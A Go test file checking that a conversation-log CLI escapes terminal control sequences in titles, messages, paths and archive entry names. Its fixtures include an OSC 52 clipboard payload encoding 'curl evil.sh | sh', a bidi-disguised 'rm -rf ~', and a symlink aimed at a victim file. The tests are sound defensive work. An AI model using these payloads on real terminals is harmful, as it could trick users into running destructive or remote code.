package hostile

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"unicode/utf8"

	"github.com/convkit/convkit/convlog"
	"github.com/convkit/convkit/store"
)

// Text from logs and archives that would act on a terminal: an OSC 52
// sequence (sets the clipboard), a screen clear, a carriage return that
// overwrites what was printed, a bidi override that reorders it. Every
// case checks, besides what runCase checks of every case (no raw control
// character on either stream), that the escaped form is what is shown.

const (
	osc52    = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
	osc52Esc = `\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07`
	// A message that rewrites its own line and then reads backwards.
	crBidi    = "all tests pass\rrm -rf ~ \u202eexe.sh\u202c"
	crBidiEsc = `all tests pass\rrm -rf ~ \u202eexe.sh\u202c`
)

// rawTerminalControl finds the first character of s a terminal would act
// on: a C0 control but the newline, DEL, a C1 control, a bidi embedding,
// override, isolate or mark, a line or paragraph separator.
func rawTerminalControl(s string) (rune, int, bool) {
	for i, r := range s {
		switch {
		case r == '\n':
		case r < 0x20, r == 0x7f, r >= 0x80 && r <= 0x9f,
			r == 0x061c, r == 0x200e, r == 0x200f, r == 0x2028, r == 0x2029,
			r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069:
			return r, i, true
		case r == utf8.RuneError:
			if _, n := utf8.DecodeRuneInString(s[i:]); n <= 1 {
				return r, i, true
			}
		}
	}
	return 0, 0, false
}

// evUserJSON is evUser with text encoded as JSON (evUser's Go quoting
// writes \x1b, which is not JSON).
func evUserJSON(seq int, text string) string {
	b, err := json.Marshal(text)
	if err != nil {
		panic(err)
	}
	return strings.Replace(evUser(seq, "TEXT"), `"TEXT"`, string(b), 1)
}

// hostileMessages writes the hostile conversation with one session whose
// user message is text, and renames the conversation to title.
func (f *fx) hostileMessages(title, text string) {
	f.t.Helper()
	lines := []string{sessionHeader(hostileSID, 4)}
	for _, l := range sessionEvents() {
		if strings.Contains(l, `"user/message"`) {
			l = evUserJSON(2, text)
		}
		lines = append(lines, l)
	}
	f.session("s1.v4.jsonl", joinLines(lines...))
	if title != "" {
		renameRaw(f, f.data, hostileID, title)
	}
}

// renameRaw appends conversation/renamed with title to the conversation
// log as another writer could: the store's Rename refuses a title with
// control characters.
func renameRaw(f *fx, dataDir, id, title string) {
	f.t.Helper()
	s, err := store.Open(context.Background(), dataDir, store.OpenOptions{})
	if err != nil {
		f.t.Fatal(err)
	}
	defer s.Close()
	l, err := s.FindLog(id, "")
	if err != nil {
		f.t.Fatal(err)
	}
	w, err := convlog.OpenAppend(l.Path, convlog.WriterOptions{})
	if err != nil {
		f.t.Fatal(err)
	}
	defer w.Close()
	data, err := convlog.EncodeData(map[string]string{"title": title})
	if err == nil {
		err = w.Append([]convlog.Event{{Type: "conversation/renamed", Time: 1790000000000, Data: data}})
	}
	if err != nil {
		f.t.Fatal(err)
	}
}

func termCases() []hcase {
	return []hcase{
		{
			name: "title with an OSC 52 clipboard sequence: list shows it escaped",
			setup: func(f *fx) []string {
				f.hostileMessages("Deploy notes "+osc52+"\x1b[2J", "hello")
				return []string{"list", "--all"}
			},
			code:   0,
			stdout: []string{"  Deploy notes " + osc52Esc + `\x1b[2J  `},
		},
		{
			name: "message with a carriage return and a bidi override: inspect by id shows them escaped",
			setup: func(f *fx) []string {
				f.hostileMessages("", crBidi)
				return []string{"inspect", hostileID, hostileSID}
			},
			code:   0,
			stdout: []string{"user/message             user: " + crBidiEsc},
		},
		{
			name: "message with a carriage return and a bidi override: inspect --history shows them escaped",
			setup: func(f *fx) []string {
				f.hostileMessages("", crBidi)
				return []string{"inspect", "--history", hostileID, hostileSID}
			},
			code:   0,
			stdout: []string{"[2] user (user) u2\n    " + crBidiEsc + "\n"},
		},
		{
			name: "working directory with an escape sequence: inspect shows it escaped",
			setup: func(f *fx) []string {
				header := strings.Replace(sessionHeader(hostileSID, 4), `"cwd":"/home/dev/src/hostile"`, `"cwd":"/home/\u001b]0;owned\u0007dev"`, 1)
				p := f.write(filepath.Join(f.root, "loose", "s.v4.jsonl"), joinLines(append([]string{header}, sessionEvents()...)...))
				return []string{"inspect", "--stats", p}
			},
			code:   0,
			stdout: []string{`session log "s1", format v4, none`},
			check: func(f *fx, r result) {
				// The default rendering shows the header's working directory.
				rr := f.run("inspect", filepath.Join(f.root, "loose", "s.v4.jsonl"))
				if rr.code != 0 || !strings.Contains(rr.stdout, `  cwd: /home/\x1b]0;owned\x07dev`) {
					f.t.Errorf("inspect: exit %d, stdout %q: want the cwd escaped", rr.code, rr.stdout)
				}
				if c, i, ok := rawTerminalControl(rr.stdout + rr.stderr); ok {
					f.t.Errorf("inspect wrote %U raw at byte %d", c, i)
				}
			},
		},
		{
			name: "log read from stdin with a title sequence: inspect - shows it escaped",
			setup: func(f *fx) []string {
				f.stdin = string(joinLines(sessionHeader(hostileSID, 4), evTurnStart(0), evStepStart(1),
					evUserJSON(2, "\x1b]2;window title\x07\u009b31m"), evAssistant(3, "ok"), evStepEnd(4), evTurnEnd(5)))
				return []string{"inspect", "-"}
			},
			code:   0,
			stdout: []string{`user: \x1b]2;window title\x07\u009b31m`},
			// The copy of stdin in $TMPDIR is removed again.
		},
		{
			name: "archive entry name with an escape sequence: import refuses it, the name escaped",
			setup: func(f *fx) []string {
				return []string{"import", f.evil(regEntry("conversations/x\x1b[2J\x1b]52;c;ZXZpbA==\x07/metadata.v4.jsonl", []byte("{}\n")))}
			},
			code:   1,
			stderr: []string{`{archive}: entry 2 "conversations/x\x1b[2J\x1b]52;c;ZXZpbA==\x07/metadata.v4.jsonl" (tar byte 1024): refused`},
		},
		{
			name: "archive entry name with an escape sequence: backup verify refuses it, the name escaped",
			setup: func(f *fx) []string {
				return []string{"backup", "verify", f.evil(regEntry("conversations/\u202eevil\x1b[8m/metadata.v4.jsonl", []byte("{}\n")))}
			},
			code:   1,
			stderr: []string{`{archive}: entry 2 "conversations/\u202eevil\x1b[8m/metadata.v4.jsonl" (tar byte 1024): refused`},
		},
		{
			name: "conversation directory named with an escape sequence: list warns with the name escaped",
			setup: func(f *fx) []string {
				f.write(filepath.Join(f.data, "conversations", "bad\x1b[2Jname", "metadata.v4.jsonl"), []byte("{}\n"))
				return []string{"list", "--all"}
			},
			code:   0,
			stderr: []string{`convkit: warning: {data}/conversations/bad\x1b[2Jname`},
			stdout: []string{"{basic.id}"},
		},
		{
			name: "sidecar of an archive is a symbolic link: backup verify writes nothing through it",
			setup: func(f *fx) []string {
				a := f.backupArchive()
				f.vars["sidecar"] = a + ".json"
				os.Remove(a + ".json")
				f.write(filepath.Join(f.root, "victim"), []byte("keep me\n"))
				if err := os.Symlink(filepath.Join(f.root, "victim"), a+".json"); err != nil {
					f.t.Fatal(err)
				}
				return []string{"backup", "verify", a}
			},
			code:   0,
			stdout: []string{"Verify: ", "mismatches=0"},
			stderr: []string{"convkit: warning: the verification was not recorded", "{sidecar}: not a regular file: not replaced"},
		},
		{
			name: "sidecar of an archive is huge: backup list reads at most 64 KiB of it",
			setup: func(f *fx) []string {
				a := f.backupArchive()
				f.vars["sidecar"] = a + ".json"
				f.write(a+".json", []byte(`{"format":"convkit-backup-info","archive":"`+strings.Repeat("x", 1<<20)+`"}`))
				return []string{"backup", "list", filepath.Dir(a)}
			},
			code:   0,
			stdout: []string{"convkit-", ".tar.zst  ", "  -  "},
			stderr: []string{fmt.Sprintf("convkit: warning: {sidecar}: longer than %d bytes", 64<<10)},
		},
	}
}
